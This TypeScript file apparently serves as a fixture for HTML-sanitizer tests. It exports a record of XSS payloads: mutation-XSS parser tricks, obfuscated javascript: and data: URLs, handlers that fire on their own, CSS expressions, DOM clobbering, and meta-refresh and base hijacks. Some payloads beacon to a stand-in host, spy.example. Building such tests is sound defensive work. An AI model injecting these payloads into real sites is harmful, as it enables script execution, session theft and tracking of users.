/**
 * HTML that tries to run something, by what it tries. Each calls `alert` where it succeeds. For specs of every door by which
 * foreign text comes in.
 */
export const attacks: Readonly<Record<string, string>> = {
  // Read once it is harmless, written and read again it is not.
  'style in svg ends in an attribute': '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  'style in math after a glyph':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'form in form moves the end of math':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'comment in svg title': '<svg><title><!--</title><img src=x onerror=alert(1)>--></title></svg>',
  'comment ended by a bang': '<!--!><img src=x onerror=alert(1)>-->',
  'comment ended at once': '<!--><img src=x onerror=alert(1)>-->',
  'noscript is read otherwise without script': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'noembed and noframes':
    '<noembed><a title="</noembed><img src=x onerror=alert(1)>"></noembed><noframes><b></noframes>',
  'xmp, listing and plaintext':
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  'textarea within select': '<select><textarea></select><img src=x onerror=alert(1)></textarea>',
  'foreignObject back to HTML':
    '<svg><foreignObject><math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>',
  'annotation-xml with a script':
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  'desc is a door out of svg': '<svg><desc><iframe srcdoc="<script>alert(1)</script>"></iframe></desc></svg>',
  'cdata in svg': '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  'table moves what stands in it': '<table><a href="javascript:alert(1)"><img src=x onerror=alert(1)></a><tr><td>a',
  'paragraph in a formatting element': '<b><p><a href="x"><i></b><img src=x onerror=alert(1)></i></a>',
  'backticks as quotes': '<img src="x` `onerror=alert(1)"><p title="`onmouseover=alert(1)">a</p>',
  'entities written again': '<p title="&lt;img src=x onerror=alert(1)&gt;">&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  // What stands in no rule of a reader that looks for patterns.
  'script torn by nul': 'a<scr\u0000ipt>alert(1)</scr\u0000ipt><im\u0000g src=x onerror=alert(1)>',
  'tags in tags': '<<script>alert(1);//<</script><scr<script>ipt>alert(1)</scr</script>ipt>',
  'unclosed tag': '<img src=x onerror=alert(1) <p>a',
  'slashes for spaces': '<svg/onload=alert(1)><img/src=x/onerror=alert(1)//>',
  'UTF-7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-<meta charset="utf-7">',
  'template keeps what it holds':
    '<template><img src=x onerror=alert(1)></template><template shadowrootmode=open><script>alert(1)</script></template>',
  // Whatever has an address.
  'javascript in a link':
    '<a href="javascript:alert(1)">a</a><area href="javascript:alert(1)"><svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  'tab, line break and soft hyphen in the scheme':
    '<a href="java\tscr\nipt:alert(1)">a</a><a href="java\u00adscript:alert(1)">b</a><a href="\u0001javascript:alert(1)">c</a>',
  'entities in the scheme':
    '<a href="&#106;avascript&colon;alert(1)">a</a><a href="jav&#x09;ascript:alert(1)">b</a><a href="&NewLine;javascript:alert(1)">c</a>',
  'other schemes that run':
    '<a href="vbscript:alert(1)">a</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">b</a><a href="feed:javascript:alert(1)">c</a><a href="blob:https://example.org/x">d</a>',
  'addresses beside links':
    '<blockquote cite="javascript:alert(1)">a</blockquote><q cite="data:text/html,x">b</q><del cite="javascript:alert(1)">c</del><body background="javascript:alert(1)"><table background="javascript:alert(1)"><td background="javascript:alert(1)">d',
  'things embedded':
    '<iframe src="javascript:alert(1)"></iframe><object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><frameset><frame src="javascript:alert(1)"></frameset><applet code="x"></applet><portal src="javascript:alert(1)"></portal>',
  'sources and sets of pictures':
    '<img srcset="https://spy.example/1.png 1x, javascript:alert(1) 2x"><picture><source srcset="javascript:alert(1)"><img src="https://spy.example/2.png" onload=alert(1)></picture><video poster="javascript:alert(1)"><source src=x onerror=alert(1)></video><input type=image src="javascript:alert(1)">',
  'the way of pings':
    '<a href="/" ping="https://spy.example/">a</a><a href="/" target="_blank">b</a><a href="https://elsewhere.example/" target="opener">c</a>',
  // Styles.
  'styles that run or fetch':
    '<p style="background:url(javascript:alert(1))">a</p><p style="width:expression(alert(1))">b</p><p style="-moz-binding:url(https://spy.example/x)">c</p>',
  sheets:
    '<style>@import "https://spy.example/x.css";body{background:url(https://spy.example/y)}</style><link rel=stylesheet href="https://spy.example/z.css"><link rel=prefetch href="https://spy.example/w">',
  // Handlers.
  'handlers that need nobody':
    '<details open ontoggle=alert(1)><summary>a</summary></details><video autoplay onloadstart=alert(1) src=x></video><marquee onstart=alert(1)>b</marquee><input autofocus onfocus=alert(1)><body onload=alert(1)>',
  'handlers of animation':
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>a</p><svg><animate onbegin=alert(1) attributeName=x dur=1s></svg><svg><a><animate attributeName=href values=javascript:alert(1) /><text>b</text></a></svg>',
  'handlers in capitals and with odd spaces':
    '<IMG SRC=x OnErRoR\u000c=\u000calert(1)><img src=x onerror\n=\nalert(1)><a onpointerrawupdate=alert(1)>a</a>',
  // What changes the page around it.
  forms:
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">a</button><input type=submit form=x formaction="javascript:alert(1)"></form><isindex action="javascript:alert(1)" type=image>',
  'base and refresh':
    '<base href="https://spy.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv="refresh" content="0;url=https://spy.example/">',
  'names that hide what scripts rely on':
    '<a id="document" name="cookie">a</a><img name="getElementById" src="/x.png"><form name="body"><input name="parentNode"></form><p id="content">b</p><p id="b-1" is="x-y">c</p>',
  'a page in the page':
    '</div></main></body></html><script>alert(1)</script><html onclick=alert(1)><head><title>a</title></head><body><p>b',
  'custom elements and slots':
    '<x-card onclick=alert(1)><slot name=a onslotchange=alert(1)></slot><p slot=a>a</p></x-card><dialog open oncancel=alert(1)>b</dialog><p popover onbeforetoggle=alert(1)>c</p>',
  'very deep': `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>`,
  'processing instructions and doctypes':
    '<?xml version="1.0"?><?php alert(1) ?><!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;<%alert(1)%>',
  'half a character': '\ud83d<b onclick=alert(1)>a\udc00</b>',
};
